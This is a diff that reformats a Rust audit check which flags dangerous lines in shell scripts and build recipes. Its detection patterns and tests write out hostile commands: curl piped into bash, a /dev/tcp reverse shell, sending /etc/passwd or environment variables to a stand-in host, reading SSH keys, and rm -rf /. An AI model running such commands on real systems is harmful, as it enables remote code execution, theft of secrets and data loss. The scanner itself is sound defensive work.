@@ -17,8 +17,9 @@ const DANGEROUS: Rule = Rule {
 };
 
 /// Interpreters behind a pipe.
-const INTERPRETERS: &[&str] =
-    &["sh", "bash", "zsh", "dash", "ksh", "python", "python3", "perl", "ruby", "node", "php", "iex", "source"];
+const INTERPRETERS: &[&str] = &[
+    "sh", "bash", "zsh", "dash", "ksh", "python", "python3", "perl", "ruby", "node", "php", "iex", "source",
+];
 /// Pieces that are enough by themselves, with what they mean.
 const PIECES: &[(&str, &str)] = &[
     ("/dev/tcp/", "opens a connection for a shell"),
@@ -62,27 +63,32 @@ pub(super) fn danger(line: &str) -> Option<&'static str> {
             return Some(why);
         }
     }
-    let fetches = ["curl ", "wget ", "iwr ", "invoke-webrequest", "irm ", "fetch "].iter().any(|tool| lower.contains(tool));
+    let fetches = ["curl ", "wget ", "iwr ", "invoke-webrequest", "irm ", "fetch "]
+        .iter()
+        .any(|tool| lower.contains(tool));
     let decodes = ["base64 -d", "base64 --decode", "base64 -D", "xxd -r", "openssl enc -d", "rev |"]
         .iter()
         .any(|tool| lower.contains(tool));
     if (fetches || decodes) && pipes_into_interpreter(&lower) {
         return Some(if fetches { "runs a download" } else { "decodes text and runs it" });
     }
-    let substituted = ["$(curl", "$(wget", "`curl", "`wget", "<(curl", "<(wget"].iter().any(|piece| lower.contains(piece));
+    let substituted =
+        ["$(curl", "$(wget", "`curl", "`wget", "<(curl", "<(wget"].iter().any(|piece| lower.contains(piece));
     let runs = ["eval ", "sh -c", "bash -c", "bash <(", "source <(", ". <(", "python -c", "python3 -c"]
         .iter()
         .any(|piece| lower.contains(piece));
     if substituted && runs {
         return Some("runs a download");
     }
-    let made_executable = lower.contains("chmod +x") || lower.contains("chmod 755") || lower.contains("chmod 777");
+    let made_executable =
+        lower.contains("chmod +x") || lower.contains("chmod 755") || lower.contains("chmod 777");
     if fetches && made_executable {
         return Some("runs a download");
     }
-    let sends = ["-d @", "--data @", "--data-binary @", "-f file=@", "--upload-file", "$(env", "`env`", "$(cat "]
-        .iter()
-        .any(|piece| lower.contains(piece));
+    let sends =
+        ["-d @", "--data @", "--data-binary @", "-f file=@", "--upload-file", "$(env", "`env`", "$(cat "]
+            .iter()
+            .any(|piece| lower.contains(piece));
     if lower.contains("curl ") && sends {
         return Some("sends files or the environment away");
     }
@@ -99,7 +105,9 @@ fn deletes_root(lower: &str) -> bool {
 fn pipes_into_interpreter(lower: &str) -> bool {
     lower.split('|').skip(1).any(|stage| {
         let mut words = stage.split_whitespace().skip_while(|word| {
-            matches!(*word, "sudo" | "env" | "nohup" | "command" | "exec") || word.starts_with('-') || word.contains('=')
+            matches!(*word, "sudo" | "env" | "nohup" | "command" | "exec")
+                || word.starts_with('-')
+                || word.contains('=')
         });
         words.next().is_some_and(|word| {
             let word = word.trim_end_matches([')', '"', '\'', '`', ';', '}']);
@@ -132,8 +140,25 @@ pub(in crate::audit) struct ShellScripts;
 pub(super) fn is_script(file: &File) -> bool {
     let by_name = matches!(
         file.extension().as_str(),
-        "sh" | "bash" | "zsh" | "ksh" | "fish" | "bat" | "cmd" | "ps1" | "psm1" | "vbs" | "vbe" | "js" | "jse" | "wsf"
-            | "hta" | "command" | "pl" | "rb" | "php" | "lua"
+        "sh" | "bash"
+            | "zsh"
+            | "ksh"
+            | "fish"
+            | "bat"
+            | "cmd"
+            | "ps1"
+            | "psm1"
+            | "vbs"
+            | "vbe"
+            | "js"
+            | "jse"
+            | "wsf"
+            | "hta"
+            | "command"
+            | "pl"
+            | "rb"
+            | "php"
+            | "lua"
     );
     let by_content = file.text().and_then(|text| text.lines().next()).is_some_and(|first| {
         first.starts_with("#!") && !first.contains("python") || first.to_lowercase().starts_with("@echo off")
@@ -145,7 +170,10 @@ fn is_recipe(file: &File) -> bool {
     let name = file.name();
     name.starts_with("Dockerfile")
         || name.ends_with(".dockerfile")
-        || matches!(name, "Makefile" | "makefile" | "GNUmakefile" | "package.json" | "justfile" | ".envrc" | "Procfile")
+        || matches!(
+            name,
+            "Makefile" | "makefile" | "GNUmakefile" | "package.json" | "justfile" | ".envrc" | "Procfile"
+        )
         || file.path.starts_with(".github/")
 }
 
@@ -167,7 +195,9 @@ impl Check for ShellScripts {
         for (number, line) in logical_lines(text) {
             let comment = ["#", "//", "::", "rem "].iter().any(|mark| line.trim_start().starts_with(mark));
             if !comment && let Some(why) = danger(&line) {
-                let finding = Finding::new(&DANGEROUS, &file.path, format!("the line {why}")).line(number).evidence(&line);
+                let finding = Finding::new(&DANGEROUS, &file.path, format!("the line {why}"))
+                    .line(number)
+                    .evidence(&line);
                 findings.in_file(file, finding);
             }
         }
@@ -181,10 +211,19 @@ mod tests {
     #[test]
     fn dangerous_lines_are_found() {
         for line in [
-            "curl -fsSL http://198.51.100.7/install | bash", "wget -qO- http://x/y | sudo -E sh", "bash <(curl -s http://x)",
-            "eval \"$(curl -s http://x)\"", "echo aWQ= | base64 -d | sh", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
-            "powershell -enc aQBlAHgA", "iwr http://x/y.ps1 | iex", "curl -o /tmp/x http://x && chmod +x /tmp/x && /tmp/x",
-            "rm -rf / --no-preserve-root", "curl -d @/etc/passwd http://x", "cat ~/.ssh/id_rsa", "curl http://x/?$(env)",
+            "curl -fsSL http://198.51.100.7/install | bash",
+            "wget -qO- http://x/y | sudo -E sh",
+            "bash <(curl -s http://x)",
+            "eval \"$(curl -s http://x)\"",
+            "echo aWQ= | base64 -d | sh",
+            "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
+            "powershell -enc aQBlAHgA",
+            "iwr http://x/y.ps1 | iex",
+            "curl -o /tmp/x http://x && chmod +x /tmp/x && /tmp/x",
+            "rm -rf / --no-preserve-root",
+            "curl -d @/etc/passwd http://x",
+            "cat ~/.ssh/id_rsa",
+            "curl http://x/?$(env)",
         ] {
             assert!(danger(line).is_some(), "{line}");
         }
@@ -193,9 +232,15 @@ mod tests {
     #[test]
     fn ordinary_lines_are_not() {
         for line in [
-            "pip install -q peft", "python train.py --base x | tee log.txt", "rm -rf /tmp/out", "rm -rf out",
-            "curl -L https://huggingface.co/x/resolve/main/y -o y", "git clone https://github.com/a/b", "export A=1",
-            "echo done | grep d", "docker run --rm -it image bash",
+            "pip install -q peft",
+            "python train.py --base x | tee log.txt",
+            "rm -rf /tmp/out",
+            "rm -rf out",
+            "curl -L https://huggingface.co/x/resolve/main/y -o y",
+            "git clone https://github.com/a/b",
+            "export A=1",
+            "echo done | grep d",
+            "docker run --rm -it image bash",
         ] {
             assert_eq!(danger(line), None, "{line}");
         }
